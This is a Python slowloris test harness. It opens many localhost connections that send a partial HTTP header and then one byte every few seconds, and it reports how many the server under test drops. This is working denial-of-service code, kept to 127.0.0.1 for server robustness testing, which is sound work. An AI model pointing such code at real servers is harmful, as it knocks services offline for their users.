"""Clients that never finish the head of a request.

    python3 slowloris.py PORT CLIENTS PATIENCE

Each connects, sends the start of a head, and then one byte every few seconds. None comes back once it is
cut off. At the end, when all are gone or `PATIENCE` seconds after the last has connected, one line of JSON:

  connected   how many connections were accepted
  refused     how many were not
  left        still there at the end: 0 is what it must be
  answers     what they were told: a status, or `nothing`
  age         seconds from connect to the end: the first, the median, the last
"""

import json
import os
import resource
import select
import socket
import sys
import time
from collections import Counter
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from statistics import median

START = b"GET /128 HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: Mozilla/5.0\r\nX-Slow: "
#: Seconds between two bytes of one client.
GAP = 3.0
#: Connections per second: so many would otherwise overflow the queue of any listener.
CONNECT_RATE = 5000
#: Seconds between two looks at what is to be done: the attackers are not to come in step.
TICK = 0.001
#: More than one address, so that there are ports enough.
SOURCES = [f"127.0.0.{last}" for last in range(2, 10)]


@dataclass
class Client:
    socket: socket.socket
    since: float
    next_byte: float
    told: bytes = b""


class Attack:
    def __init__(self, port: int, clients: int, patience: float):
        self.port = port
        self.clients = clients
        self.patience = patience
        self.poll = select.epoll()
        #: By descriptor, the one that is next to send a byte first.
        self.open: dict[int, Client] = {}
        self.counts: Counter[str] = Counter()
        self.answers: Counter[str] = Counter()
        self.ages: list[float] = []

    def run(self) -> dict[str, object]:
        began = last_connect = time.monotonic()
        tried = 0
        while (now := time.monotonic()) - last_connect < self.patience and (tried < self.clients or self.open):
            due = min(self.clients, int((now - began) * CONNECT_RATE) + 1)
            for number in range(tried, due):
                self.connect(number)
                last_connect = now
            tried = due
            self.send_bytes(now)
            for descriptor, _ in self.poll.poll(TICK, 256):
                self.listen(self.open[descriptor])
        return {
            "connected": self.counts["connected"],
            "refused": self.counts["refused"],
            "left": len(self.open),
            "answers": dict(self.answers),
            "age": [min(self.ages), median(self.ages), max(self.ages)] if self.ages else [],
        }

    def connect(self, number: int) -> None:
        connection = socket.socket()
        try:
            connection.setsockopt(socket.SOL_IP, IP_BIND_ADDRESS_NO_PORT, 1)
            connection.bind((SOURCES[number % len(SOURCES)], 0))
            connection.settimeout(5)
            connection.connect(("127.0.0.1", self.port))
            connection.setblocking(False)
            connection.send(START)
        except OSError:
            self.counts["refused"] += 1
            connection.close()
            return
        now = time.monotonic()
        self.counts["connected"] += 1
        self.open[connection.fileno()] = Client(connection, now, now + GAP)
        self.poll.register(connection.fileno(), select.EPOLLIN)

    def send_bytes(self, now: float) -> None:
        """One byte from each whose turn it is."""
        due = []
        for client in self.open.values():
            if client.next_byte > now:
                break
            due.append(client)
        for client in due:
            try:
                client.socket.send(b"x")
            except OSError:
                self.gone(client)
                continue
            client.next_byte = now + GAP
            # To the end of the line.
            self.open[client.socket.fileno()] = self.open.pop(client.socket.fileno())

    def listen(self, client: Client) -> None:
        try:
            piece = client.socket.recv(4096)
        except BlockingIOError:
            return
        except OSError:
            piece = b""
        client.told += piece
        if not piece:
            self.gone(client)

    def gone(self, client: Client) -> None:
        self.ages.append(time.monotonic() - client.since)
        self.answers[client.told[9:12].decode("latin-1") or "nothing"] += 1
        del self.open[client.socket.fileno()]
        client.socket.close()


#: Leaves the choice of the port to `connect`, which knows better; Python has no name for it yet.
IP_BIND_ADDRESS_NO_PORT = 24


def step_aside() -> None:
    """The attackers' own work must not be in the good clients' way, with whom they share a core."""
    niceness = 19
    if os.sched_getscheduler(0) == os.SCHED_RR:
        # The good clients go before everybody: so it is enough to be the next.
        os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0))
        niceness = -19
    os.setpriority(os.PRIO_PROCESS, 0, niceness)
    # Where sessions share a core as groups, a process's own niceness counts only within its group.
    with suppress(OSError):
        Path("/proc/self/autogroup").write_text(str(niceness))


if __name__ == "__main__":
    step_aside()
    HARD = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (HARD, HARD))
    PORT, CLIENTS, PATIENCE = sys.argv[1:]
    print(json.dumps(Attack(int(PORT), int(CLIENTS), float(PATIENCE)).run()), flush=True)
